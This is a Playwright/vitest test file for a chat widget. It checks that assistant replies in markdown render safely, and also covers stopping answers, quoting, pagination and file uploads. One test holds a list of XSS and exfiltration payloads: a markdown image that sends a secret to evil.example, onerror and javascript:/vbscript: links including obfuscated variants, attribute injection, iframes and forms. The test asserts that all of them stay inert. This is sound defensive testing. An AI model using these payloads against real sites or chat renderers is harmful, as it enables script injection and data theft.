import { describe, expect, it } from "vitest";
import { pngOf } from "../../../fakes/sample-files.ts";
import { makeDelivery } from "../make-delivery.ts";
import { runningGateways } from "../running-gateways.ts";
import { WidgetInBrowser } from "./widget-in-browser.ts";

const start = runningGateways();
const widget = new WidgetInBrowser();

const hostile = [
  "![x](https://evil.example/?q=SECRET)",
  '<img src="https://evil.example/a.png" onerror="alert(1)">',
  '<form action="https://evil.example"><input name="a"><button>go</button></form>',
  "<script>alert(1)</script>",
  "<style>* { display: none }</style>",
  '<iframe src="https://evil.example"></iframe>',
  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)",
  '<a href="javascript:alert(1)" onclick="alert(1)">e</a>',
  '<svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<div class="anchor" style="position:fixed">↳ Re: "forged"</div>',
  "[f](&#106;avascript:alert(1)) [g](java&#10;script:alert(1)) <javascript:alert(1)> [h]\n\n[h]: javascript:alert(1)",
  '[i](https://good.example/&quot;onclick=alert(1)) [j](https://good.example/" onmouseover=alert(1))',
].join("\n\n");

/** Runs in the browser. */
const firstPixel = `(node) => ({
  width: node.width,
  height: node.height,
  pixel: [...node.getContext("2d").getImageData(0, 0, 1, 1).data],
})`;

describe("given a conversation in the widget", () => {
  it("when an answer is hostile markdown, then it is inert: nothing loads, submits, runs or imitates (F25)", async () => {
    const gateway = await start();
    const visitor = await widget.begin(gateway);
    const requests: string[] = [];
    widget.page.on("request", (request) => requests.push(request.url()));
    await gateway.adapter.deliver(makeDelivery(visitor, "r1", { reply: { markdown: hostile } }));
    const reply = widget.page.locator(".log .reply .text");
    await reply.locator("a").first().waitFor();
    const found = await reply.evaluate((node) => ({
      tags: [...new Set([...node.querySelectorAll("*")].map(({ localName }) => localName))].sort(),
      attributes: [...new Set([...node.querySelectorAll("*")].flatMap((each) => each.getAttributeNames()))].sort(),
      links: [...node.querySelectorAll("a")].map(({ href }) => href),
      text: node.textContent,
    }));
    expect(found.tags).toEqual(["a", "p"]);
    expect(found.attributes).toEqual(["dir", "href", "rel", "target"]);
    expect(found.links).toEqual([
      "https://evil.example/?q=SECRET",
      "https://good.example/%22onclick=alert(1)",
      "https://good.example/",
    ]);
    expect(found.text).toContain("<script>alert(1)</script>");
    expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
  });

  it("when answers are nested too deeply to render, then they are shown as plain text, and the next is rendered (F37)", async () => {
    const gateway = await start();
    const visitor = await widget.begin(gateway);
    const deep = [">".repeat(2_200), "- ".repeat(1_100), "*".repeat(3_000)].map((text) => `${text}x`);
    for (const [index, markdown] of [...deep, "**next**"].entries()) {
      await gateway.adapter.deliver(makeDelivery(visitor, `r${index}`, { reply: { markdown } }));
    }
    await widget.page.locator(".log .reply .text strong").last().waitFor();
    const texts = await widget.page.locator(".log .reply .text").allTextContents();
    expect(texts.map((text) => text.trim())).toEqual([...deep, "next"]);
  });

  it("when an answer uses all of markdown, then it is rendered, and readable as plain text", async () => {
    const gateway = await start();
    const visitor = await widget.begin(gateway);
    const markdown = [
      "# Tides & \\*moon\\*",
      "one\ntwo, **bold _both_** ~~gone~~ `a &amp; b`",
      "- [x] high &mdash; &#x2191; &unknown;\n- low\n\n  7. seven",
      "> said",
      "| a | b |\n|---|--:|\n| 1 | [l](https://x.example/?a=1&b=2) |",
      "```text\nif (a < b && c) {}\n```",
      "***",
    ].join("\n\n");
    await gateway.adapter.deliver(makeDelivery(visitor, "r1", { reply: { markdown } }));
    const reply = widget.page.locator(".log .reply .text");
    await reply.locator("table").waitFor();
    const html = await reply.evaluate((node) =>
      node.innerHTML.replace(/ (dir|tabindex|target|rel|data-lang)="[^"]*"/g, ""),
    );
    expect(html.split("\n").join("")).toBe(
      [
        "<p><strong>Tides &amp; *moon*</strong></p>",
        "<p>one<br>two, <strong>bold <em>both</em></strong> <del>gone</del> <code>a &amp;amp; b</code></p>",
        '<ul><li><p>☑ high — ↑ &amp;unknown;</p></li><li><p>low</p><ol start="7"><li>seven</li></ol></li></ul>',
        "<blockquote><p>said</p></blockquote>",
        "<table><thead><tr><th>a</th>",
        '<th align="right">b</th></tr></thead><tbody><tr><td>1</td>',
        '<td align="right"><a href="https://x.example/?a=1&amp;b=2">l</a></td></tr></tbody></table>',
        '<div class="code"><pre><code>if (a &lt; b &amp;&amp; c) {}</code></pre>',
        '<button type="button" class="pill" aria-label="Copy the code">Copy</button></div>',
        "<hr>",
      ].join(""),
    );
  });

  it("when a person presses stop, then the answer ends, and the stop command is not shown", async () => {
    const gateway = await start();
    await widget.open(gateway);
    await widget.write("tell me everything");
    const { id, conversation } = await widget.arrived(gateway, 1);
    gateway.adapter.onSignal({
      type: "delta",
      conversation,
      correlationId: id,
      attempt: 1,
      offset: 0,
      text: "It began",
    });
    await widget.page.locator(".drafts .reply", { hasText: "It began" }).waitFor();
    await widget.page.getByRole("button", { name: "Stop the answer" }).click();
    const stop = await widget.arrived(gateway, 2);
    expect(stop).toMatchObject({ command: { name: "cancel", args: "answer" } });
    const notice = { kind: "notice" as const, correlationId: stop.id, markdown: "I stopped." };
    await gateway.adapter.deliver(makeDelivery(conversation.room, "r1", { reply: notice }));
    const final = { correlationId: id, markdown: "It began …\n\n_Stopped._", outcome: "cancelled" as const };
    await gateway.adapter.deliver(makeDelivery(conversation.room, "r2", { reply: final }));
    await widget.page.getByRole("button", { name: "Send" }).waitFor();
    expect(await widget.page.locator(".log > :not(.day)").count()).toBe(2);
    expect(await widget.page.locator(".log .reply em").textContent()).toBe("Stopped.");
  });

  it("when a person replies to a message, then their message quotes it, and the quote links to it", async () => {
    const gateway = await start();
    const visitor = await widget.begin(gateway);
    await gateway.adapter.deliver(makeDelivery(visitor, "r1", { reply: { markdown: "High water is at **noon**." } }));
    await widget.page.locator(".reply strong").waitFor();
    await widget.page.getByRole("button", { name: "Reply" }).click();
    await widget.page.locator(".answering", { hasText: "High water is at noon." }).waitFor();
    await widget.write("sure?");
    expect(await widget.arrived(gateway, 2)).toMatchObject({ text: "sure?", replyTo: "r1" });
    await widget.page.locator(".said .quote", { hasText: "High water is at noon." }).click();
    await widget.page.locator(".reply.found").waitFor();
  });

  it("when an anchor belongs to this conversation, then it links to the original message, on an older page too (O12)", async () => {
    const gateway = await start();
    await widget.open(gateway);
    await widget.write("the first of all");
    const first = await widget.arrived(gateway, 1);
    const { room } = first.conversation;
    for (let index = 0; index < 120; index++)
      await gateway.adapter.deliver(
        makeDelivery(room, `r${index}`, { reply: { createdAt: new Date().toISOString() } }),
      );
    const startedAt = first.sentAt;
    const origin = {
      channel: "web",
      promptSummary: "first",
      startedAt,
      sessionId: "s0",
      messageId: first.messageId ?? "",
    };
    const anchor = { summary: "the first", channel: "web", startedAt, text: "" };
    await gateway.adapter.deliver(makeDelivery(room, "late", { anchor, reply: { origin } }));
    await widget.open(gateway);
    await widget.page.locator(".anchor .about").click();
    await widget.page.locator(".said.found", { hasText: "the first of all" }).waitFor();
    expect(await widget.page.locator(".said.found").isVisible()).toBe(true);
  });

  it("when there are 2000 messages, then they load page by page, and a new one follows them", async () => {
    const gateway = await start();
    const visitor = await widget.begin(gateway);
    await widget.page.goto("about:blank");
    const long = "A line of some length, **with a little** `mark-up`.\n\n- one\n- two";
    for (let index = 1; index < 2_000; index++) {
      await gateway.adapter.deliver(makeDelivery(visitor, `r${index}`, { reply: { markdown: `${index}: ${long}` } }));
    }
    await widget.open(gateway);
    const entries = widget.page.locator(".log > :not(.day)");
    await entries.nth(99).waitFor({ state: "attached" });
    expect(await entries.count()).toBeLessThan(500);
    const scroll = widget.page.getByRole("log");
    await expect
      .poll(
        async () => {
          await scroll.evaluate((node) => node.scrollTo(0, 0));
          return entries.count();
        },
        { interval: 100 },
      )
      .toBe(2_000);
    expect(await entries.first().textContent()).toContain("hello");
    await gateway.adapter.deliver(makeDelivery(visitor, "last", { reply: { markdown: `last: ${long}` } }));
    await widget.page.locator(".reply", { hasText: "last:" }).waitFor({ state: "attached" });
    expect(await entries.count()).toBe(2_001);
  });

  it("when an image is sent, then it has a thumbnail before and after a reload; a file that is not one has its name (M3)", async () => {
    const gateway = await start();
    await widget.open(gateway);
    const photo = { name: "photo.png", mimeType: "image/png", buffer: pngOf(40, 20, [200, 30, 40]) };
    const page = { name: "page.png", mimeType: "image/png", buffer: Buffer.from("<html>") };
    await widget.page.locator("input[type=file]").setInputFiles([photo, page]);
    await widget.page.locator(".uploads .file", { hasText: "photo.png" }).locator("canvas.thumbnail").waitFor();
    await widget.page.locator(".uploads .file", { hasText: "page.png" }).getByText("6 B").waitFor();
    await widget.write("look");
    await widget.arrived(gateway, 1);
    const sent = widget.page.locator(".said .files .file");
    const check = async () => {
      const image = sent.filter({ hasText: "photo.png" }).locator("canvas.thumbnail");
      await image.waitFor();
      expect(
        await widget.page.evaluate(
          `(${firstPixel})(document.querySelector("[data-mooring]").shadowRoot.querySelector(".files canvas"))`,
        ),
      ).toEqual({ width: 40, height: 20, pixel: [200, 30, 40, 255] });
      expect(await sent.filter({ hasText: "page.png" }).locator("canvas:visible").count()).toBe(0);
    };
    await check();
    await widget.open(gateway);
    await check();
  });

  it("when files are picked, pasted, dropped or too large, then they are sent with the message, or the reason is shown", async () => {
    const gateway = await start({ config: { limits: { fileBytes: 2_000 } } });
    await widget.open(gateway);
    const notes = { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("tides") };
    const large = { name: "large.bin", mimeType: "application/octet-stream", buffer: Buffer.alloc(3_000) };
    const empty = { name: "empty.txt", mimeType: "text/plain", buffer: Buffer.alloc(0) };
    await widget.page.locator("input[type=file]").setInputFiles([notes, large, empty]);
    const chips = widget.page.locator(".uploads .file");
    await chips.filter({ hasText: "notes.txt" }).getByText("5 B").waitFor();
    await chips.filter({ hasText: "large.bin" }).getByText("Too large: the maximum is 2 kB").waitFor();
    await chips.filter({ hasText: "empty.txt" }).getByText("This file is empty").waitFor();
    await widget.page.getByRole("button", { name: "Remove large.bin" }).click();
    await widget.page.evaluate(`(() => {
      const clipboardData = new DataTransfer();
      clipboardData.items.add(new File(["x"], "pasted.txt", { type: "text/plain" }));
      const input = document.querySelector("[data-mooring]").shadowRoot.querySelector("textarea");
      input.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true }));
    })()`);
    await chips.filter({ hasText: "pasted.txt" }).getByText("1 B").waitFor();
    const drag = (type: string) => `(() => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File(["xy"], "dropped.txt", { type: "text/plain" }));
      const panel = document.querySelector("[data-mooring]").shadowRoot.querySelector(".panel");
      panel.dispatchEvent(new DragEvent("${type}", { dataTransfer, bubbles: true, cancelable: true }));
    })()`;
    await widget.page.evaluate(drag("dragover"));
    await widget.page.getByText("Drop files to attach them").waitFor();
    await widget.page.evaluate(drag("drop"));
    await chips.filter({ hasText: "dropped.txt" }).getByText("2 B").waitFor();
    await widget.page.getByText("Drop files to attach them").waitFor({ state: "detached" });
    await widget.write("read these");
    const { attachments } = await widget.arrived(gateway, 1);
    expect(attachments.map(({ name }) => name)).toEqual(["notes.txt", "pasted.txt", "dropped.txt"]);
    const download = widget.page.waitForEvent("download");
    await widget.page.getByRole("button", { name: "Download notes.txt" }).click();
    expect((await download).suggestedFilename()).toBe("notes.txt");
    expect(await chips.count()).toBe(0);
  });
});
